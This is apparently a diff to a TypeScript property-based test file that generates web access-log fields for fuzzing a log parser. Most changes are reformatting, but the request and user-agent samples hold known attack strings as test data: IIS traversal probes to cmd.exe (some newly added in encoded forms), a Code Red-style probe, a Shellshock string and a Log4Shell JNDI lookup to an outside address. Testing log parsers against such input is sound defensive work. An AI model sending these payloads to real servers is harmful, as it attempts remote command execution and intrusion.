@@ -21,10 +21,23 @@ const addresses = fc.oneof(
 );
 const users = fc.oneof(
   { weight: 5, arbitrary: fc.constant("-") },
-  fc.constantFrom("tanaka", "a b", '""', "x [01/Jan/2020:00:00:00 +0000]", "nikto", "..", "-x", '\\"a\\"', ""),
+  fc.constantFrom(
+    "tanaka",
+    "a b",
+    '""',
+    "x [01/Jan/2020:00:00:00 +0000]",
+    "nikto",
+    "..",
+    "-x",
+    '\\"a\\"',
+    "",
+  ),
 );
 const stamps = fc.oneof(
-  { weight: 5, arbitrary: fc.constantFrom("19/Jul/2001:06:01:38 -0400", "19/Jul/2001:06:59:59 -0400") },
+  {
+    weight: 5,
+    arbitrary: fc.constantFrom("19/Jul/2001:06:01:38 -0400", "19/Jul/2001:06:59:59 -0400"),
+  },
   fc.constantFrom(
     "31/Dec/1999:23:59:59 +0900",
     "29/Feb/2000:00:00:00 +0000",
@@ -43,6 +56,9 @@ const requests = fc.oneof(
     "GET / HTTP/1.1",
     "GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0",
     "GET /default.ida?XXXXXXXX%u9090=a  HTTP/1.0",
+    "GET /w%69nnt/system32/c%6dd.exe?/c+dir HTTP/1.0",
+    "GET /%25%36%33gi/ HTTP/1.0",
+    "GET /\\x63md.exe HTTP/1.0",
     "POST /a//b/./c?x=%2e%2e#f HTTP/1.1",
     "get /x",
     "CONNECT mx.example.net:25 HTTP/1.0",
@@ -61,7 +77,10 @@ const requests = fc.oneof(
     " ",
   ),
   fc.string({ maxLength: 30 }),
-  fc.string({ unit: fc.constantFrom("%", "2", "e", "/", ".", "c", "A", "?", " ", "\\", '"'), maxLength: 20 }),
+  fc.string({
+    unit: fc.constantFrom("%", "2", "e", "/", ".", "c", "A", "?", " ", "\\", '"'),
+    maxLength: 20,
+  }),
 );
 const statuses = fc.oneof(
   { weight: 6, arbitrary: fc.constantFrom("200", "404", "301", "500") },
@@ -72,8 +91,28 @@ const sizes = fc.oneof(
   fc.constantFrom("1234567890", "12345678901234567", "x", "", "1.5", "007"),
 );
 const texts = fc.oneof(
-  { weight: 4, arbitrary: fc.constantFrom("-", "http://www.example.jp/", "Mozilla/5.0 (X11; Linux x86_64)", "curl/7.88.1") },
-  fc.constantFrom("", '"', "\\", "() { :;}; /bin/sh", "a\u00ffb", "caf\u00c3\u00a9", "\u0000", "\t", "${jndi:ldap://192.0.2.1/a}", "\r"),
+  {
+    weight: 4,
+    arbitrary: fc.constantFrom(
+      "-",
+      "http://www.example.jp/",
+      "Mozilla/5.0 (X11; Linux x86_64)",
+      "curl/7.88.1",
+    ),
+  },
+  fc.constantFrom(
+    "",
+    '"',
+    "\\",
+    "() { :;}; /bin/sh",
+    "\\x28) {",
+    "a\u00ffb",
+    "caf\u00c3\u00a9",
+    "\u0000",
+    "\t",
+    "${jndi:ldap://192.0.2.1/a}",
+    "\r",
+  ),
   fc.string({ maxLength: 20 }),
 );
 
@@ -92,7 +131,16 @@ export interface MadeUpFields {
 }
 
 export const madeUpFields: fc.Arbitrary<MadeUpFields> = fc.record({
-  host: fc.constantFrom("gw1.example.jp:80", "gw1.example.jp", ":80", "[2001:db8::1]:443", "a:b:80", "gw1:", "_", ""),
+  host: fc.constantFrom(
+    "gw1.example.jp:80",
+    "gw1.example.jp",
+    ":80",
+    "[2001:db8::1]:443",
+    "a:b:80",
+    "gw1:",
+    "_",
+    "",
+  ),
   address: addresses,
   user: users,
   stamp: stamps,
